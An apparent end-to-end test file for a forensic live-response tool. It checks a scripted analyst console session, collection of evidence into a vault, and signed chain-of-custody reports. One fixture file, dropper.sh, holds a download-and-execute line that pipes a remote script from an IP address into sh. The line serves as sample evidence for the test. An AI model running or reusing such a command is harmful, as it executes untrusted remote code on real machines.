import { spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { type SignedCustodyReport, verifyCustodyReport } from "@custody/audit";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { LiveBench, until } from "./support/live-e2e.ts";

// Live response end to end, every part a real process: `custody serve`, an agent enrolled with
// `custody agent enroll` and running as `custody agent run`, and an analyst's `custody live connect`
// console fed a script on stdin, then `custody live run`.
const bench = new LiveBench();
const { work } = bench;
const CASE = "IR-2026-13";
let url = "";
let ca = "";
let deviceId = "";
const evidence = join(work, "device-files");

const custody = (args: string[]) => bench.custody(args);
const alice = () => bench.custodian();

beforeAll(async () => {
  await bench.serve(["rita"], CASE);
  url = bench.url;
  ca = readFileSync(join(bench.vault, "pki", "ca.pem"), "utf8");
  deviceId = bench.deviceId;
  await bench.startAgent();
  for (const scope of [`device:${deviceId}`, `case:${CASE}`])
    await alice().grant({ name: "rita", role: "responder", scope });
  // what the analyst will look at and take (the cancelled findfile walks the whole filesystem instead)
  spawnSync("mkdir", ["-p", evidence]);
  writeFileSync(join(evidence, "dropper.sh"), "#!/bin/sh\ncurl http://203.0.113.9/x | sh\n");
  writeFileSync(join(evidence, "notes.txt"), "second file\n");
  writeFileSync(join(evidence, "third.txt"), "taken after its own fileinfo\n");
  writeFileSync(join(evidence, "background.txt"), "taken in the background\n");
}, 180_000);

afterAll(async () => {
  await bench.close();
});

const BASIC = [
  "help",
  "help getfile",
  "trace on",
  `cd ${evidence}`,
  "dir",
  "fileinfo dropper.sh",
  "findfile *.sh -root /etc -max_depth 3",
  "connections",
  "processes",
  "services",
  "scheduledtasks",
  "persistence",
  "drivers",
  "registry HKLM\\Software",
  "trace off",
  "status",
];

describe("live response, end to end", () => {
  it("a scripted console session runs every command, takes a file into the vault, and a cancelled findfile stops on the device", async () => {
    const con = await bench.connect("rita", CASE);
    const run = async (line: string) => (await con.run(line)).err;
    for (const line of BASIC) await run(line);
    expect(con.stdout).toMatch(/getfile PATH \[-auto\]/);
    const results = [...con.stderr.matchAll(/\[(C-[0-9a-f-]+)\] (completed|failed|cancelled|timed-out)/g)];
    // every device command of the script came back: registry is Windows-only and fails with its reason
    expect(results.length).toBe(BASIC.filter((l) => !/^(help|trace|status)/.test(l)).length);
    // registry is Windows-only; drivers needs /proc/modules, which a container may not have: both say so
    const notCompleted = [...con.stderr.matchAll(/\] (?:failed|cancelled|timed-out), [^\n]*/g)].map(
      (m) => m[0],
    );
    expect(
      notCompleted.every((line) => /ERR_NOT_PRESENT/.test(line)),
      con.stderr,
    ).toBe(true);
    expect(notCompleted.some((line) => /registry does not exist on linux/.test(line))).toBe(true);
    expect(con.stdout).toContain(join(evidence, "dropper.sh"));

    const taken = await run("getfile dropper.sh -auto");
    const itemId = /item ([0-9a-f]{64})/.exec(taken)?.[1];
    expect(itemId, taken).toBeDefined();
    await run("processes -output json > processes.json");
    const rows = readFileSync(join(work, "processes.json"), "utf8")
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l) as { pid: number });
    expect(rows.length).toBeGreaterThan(1);

    // -output table (the registry's columns, aligned) as well as json
    const tableAt = con.stdout.length;
    expect(await run("dir -output table")).toMatch(/\] completed/);
    expect(con.stdout.slice(tableAt)).toMatch(/type\s+mode\s+owner\s+size\s+mtime\s+name\n-+/);
    expect(con.stdout.slice(tableAt)).toContain("third.txt");
    // getfile without -auto: refused with its reason until a fileinfo of the path, then taken
    expect(await run("getfile third.txt")).toMatch(/ERR_PREREQUISITE/);
    expect(await run("fileinfo third.txt")).toMatch(/\] completed/);
    const third = /item ([0-9a-f]{64})/.exec(await run("getfile third.txt"))?.[1];
    expect(third).toBe(
      createHash("sha256")
        .update(readFileSync(join(evidence, "third.txt")))
        .digest("hex"),
    );
    // getfile in the background, then brought back with fg
    const takingLater = await run("getfile background.txt -auto &");
    const takeJob = /\[(C-[0-9a-f-]+)\] \w+ in the background/.exec(takingLater)?.[1] as string;
    expect(takeJob, takingLater).toBeDefined();
    expect(await run(`fg ${takeJob}`)).toMatch(
      new RegExp(`\\[${takeJob}\\] completed[^\\n]*item [0-9a-f]{64}`),
    );

    const background = await run("dir /etc &");
    const jobId = /\[(C-[0-9a-f-]+)\] \w+ in the background/.exec(background)?.[1] as string;
    expect(jobId).toBeDefined();
    expect(await run("jobs")).toBeDefined();
    expect(con.stdout).toContain(jobId);
    expect(await run(`fg ${jobId}`)).toMatch(new RegExp(`\\[${jobId}\\] completed`));

    // Ctrl+C while a findfile walks the whole filesystem: the agent stops it and says so
    const followed = () =>
      [...con.stderr.matchAll(/trace: following (C-[0-9a-f-]+)/g)].map((m) => m[1] as string);
    const before = followed().length;
    con.child.stdin?.write("trace on\nfindfile no-such-name-anywhere.xyz -root /\n");
    const following = await until(async () => followed()[before], "the findfile followed");
    con.child.kill("SIGINT");
    await con.waitFor(new RegExp(`\\[${following}\\] (completed|failed|cancelled|timed-out)[^\\n]*`));
    const ended = new RegExp(`\\[${following}\\] ([a-z-]+)([^\\n]*)`).exec(con.stderr);
    expect(ended?.[1], ended?.[0]).toBe("cancelled");
    // confirmed by the agent, not settled by the server for want of an answer
    expect(ended?.[2]).not.toMatch(/did not confirm/);
    // the session goes on after the cancel
    expect(await run("fileinfo notes.txt")).toMatch(/\] completed/);

    con.child.stdin?.end(); // Ctrl+D
    expect(await con.exited).toBe(0);
    const transcriptId = /transcript item ([0-9a-f]{64})/.exec(con.stderr)?.[1] as string;
    expect(transcriptId).toBeDefined();

    // the transcript and the file are items of the case; their reports list the session's commands
    const lines = await (async () => {
      const read = await alice().read({ id: transcriptId, caseId: CASE });
      const chunks: Buffer[] = [];
      for await (const chunk of read.stream) chunks.push(chunk as Buffer);
      return Buffer.concat(chunks)
        .toString("utf8")
        .trim()
        .split("\n")
        .map((l) => JSON.parse(l) as Record<string, unknown>);
    })();
    const commands = lines.filter((l) => l.kind === "command");
    expect(commands.map((c) => c.status)).toContain("cancelled");
    expect(commands.some((c) => c.name === "getfile" && c.itemId === itemId)).toBe(true);
    for (const id of [transcriptId, itemId as string]) {
      const report = (await alice().report({ id, caseId: CASE })) as SignedCustodyReport;
      const lineOf = report.report.events
        .filter((e) => e.action === "live.command")
        .map((e) => e.details.line);
      expect(lineOf).toEqual(
        expect.arrayContaining([
          "processes",
          "getfile dropper.sh -auto",
          "findfile no-such-name-anywhere.xyz -root /",
        ]),
      );
      expect(verifyCustodyReport(report, { trustAnchors: [ca] }).events).toBe(report.report.events.length);
    }
    const item = await alice().show({ id: itemId as string, caseId: CASE });
    expect(item.labels).toMatchObject({
      device: deviceId,
      path: join(evidence, "dropper.sh"),
      analyst: "rita",
    });
  }, 300_000);

  it("custody live run runs one command and exits with its status; getfile prints the new item id", () => {
    const base = [
      "live",
      "run",
      deviceId,
      "--case",
      CASE,
      "--server",
      url,
      "--identity",
      join(work, "rita.pem"),
      "--",
    ];
    const listed = custody([...base, "processes", "-output", "json"]);
    expect(listed.code, listed.stderr).toBe(0);
    expect(
      listed.stdout
        .trim()
        .split("\n")
        .map((l) => JSON.parse(l) as { pid: number }).length,
    ).toBeGreaterThan(1);
    const taken = custody([...base, "getfile", join(evidence, "notes.txt"), "-auto"]);
    expect(taken.code, taken.stderr).toBe(0);
    expect(taken.stdout.trim()).toMatch(/^[0-9a-f]{64}$/);
    const missing = custody([...base, "getfile", join(evidence, "absent.bin")]);
    expect(missing.code).not.toBe(0);
    expect(missing.stderr).toMatch(/ERR_PREREQUISITE/);
  }, 120_000);
});
